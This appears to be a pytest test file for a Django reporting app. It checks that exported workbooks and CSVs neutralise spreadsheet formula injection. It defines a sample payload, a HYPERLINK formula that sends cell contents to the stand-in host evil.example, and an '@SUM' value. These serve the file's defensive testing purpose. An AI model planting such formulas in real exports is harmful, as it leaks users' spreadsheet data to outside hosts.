"""Exports are safe to open (issue 13, finding 5): text a spreadsheet would run is written as text, in the
period and report workbooks, the completeness CSV, the dashboard CSVs and the public open-data CSV."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from types import SimpleNamespace
from typing import Any

import openpyxl
import pytest
from django.test import Client
from opendata.worlds import build

from binhdang.opendata.services import indicator_publish
from binhdang.places.models import Agency
from binhdang.plans.models import Indicator
from binhdang.reporting.checks import Entry
from binhdang.reporting.models import Report, Value
from binhdang.reporting.services import periods_generate, report_save, reports_generate
from binhdang.reporting.spreadsheets import SHEET_INDICATORS, period_workbook, report_workbook, workbook_import

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm vào đây")'


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _no_live_formula(rows: list[list[str]]) -> None:
    fields = [f for row in rows for f in row]
    assert "'" + EVIL in fields
    assert EVIL not in fields


# ------------------------------------------------------------------------------------------------ workbooks


@pytest.fixture
def noted(cycle: SimpleNamespace) -> SimpleNamespace:
    period = next(p for p in periods_generate(plan=cycle.plan) if p.kind == "semiannual")
    report = next(r for r in reports_generate(period=period) if r.reporter_id == cycle.a_office.pk)
    report = report_save(
        report=report,
        user=cycle.commune_user,
        version=report.version,
        entries=[Entry(cycle.i2.pk, "total", value=Decimal(7), note=EVIL)],
        summary="@SUM(A1:A9)",
    )
    return SimpleNamespace(period=period, report=report, **vars(cycle))


def _cells_with(data: bytes, text: str) -> list[Any]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]


@pytest.mark.parametrize("kind", ["report", "period"])
def test_a_note_is_a_text_cell_in_the_workbook(noted: SimpleNamespace, kind: str) -> None:
    if kind == "report":
        data = report_workbook(noted.report)
    else:
        data = period_workbook(noted.period, Report.objects.filter(period=noted.period, is_committee=True))
    for text in (EVIL, "@SUM(A1:A9)"):
        cells = _cells_with(data, text)
        assert cells, text
        assert all(c.data_type == "s" and c.quotePrefix for c in cells), text
    sheets = zipfile.ZipFile(io.BytesIO(data))
    xml = b"".join(sheets.read(n) for n in sheets.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml  # no formula element anywhere
    # The number stays a number.
    assert any(c.data_type == "n" for c in _cells_with(data, 7))  # type: ignore[arg-type]


def test_the_workbook_the_product_wrote_imports_the_same_text_back(noted: SimpleNamespace) -> None:
    data = report_workbook(noted.report)
    result = workbook_import(user=noted.commune_user, data=data, report=noted.report)
    assert result.ok, result
    assert Value.objects.get(report=noted.report, indicator=noted.i2, sex="total").note == EVIL
    noted.report.refresh_from_db()
    assert noted.report.summary == "@SUM(A1:A9)"


def test_a_typed_formula_is_still_refused(noted: SimpleNamespace) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(report_workbook(noted.report)))
    ws = wb[SHEET_INDICATORS]
    target = next(c for row in ws.iter_rows() for c in row if c.value == EVIL)
    target.value = "=1+1"  # what Excel stores when a person types a formula: a formula cell
    out = io.BytesIO()
    wb.save(out)
    result = workbook_import(user=noted.commune_user, data=out.getvalue(), report=noted.report)
    assert not result.ok


# ------------------------------------------------------------------------------------------------------ CSV


@pytest.fixture
def data(world: SimpleNamespace) -> SimpleNamespace:
    return build(world)


def test_the_completeness_csv(data: SimpleNamespace) -> None:
    Agency.objects.filter(pk=data.a_office.pk).update(name=EVIL)
    url = f"/ke-hoach/{data.plan.pk}/tinh-hinh-bao-cao/"
    _no_live_formula(_csv(_client(data.province_user).get(url, {"format": "csv"})))


def test_the_dashboard_csv(data: SimpleNamespace) -> None:
    Indicator.objects.filter(pk=data.i1.pk).update(number="", text=EVIL)
    url = f"/theo-doi/ke-hoach/{data.plan.pk}/"
    rows = _csv(_client(data.province_user).get(url, {"format": "csv", "table": "chi-tieu"}))
    _no_live_formula(rows)


def test_the_open_data_csv(data: SimpleNamespace) -> None:
    indicator_publish(indicator=data.i1, user=data.admin, note="")
    Indicator.objects.filter(pk=data.i1.pk).update(text=EVIL)
    rows = _csv(Client().get(f"/du-lieu-mo/chi-tieu/{data.i1.pk}.csv"))
    _no_live_formula(rows)
    header = rows[0]
    figures = [r[header.index("figure")] for r in rows[1:]]
    assert figures and not any(f.startswith("'") for f in figures)
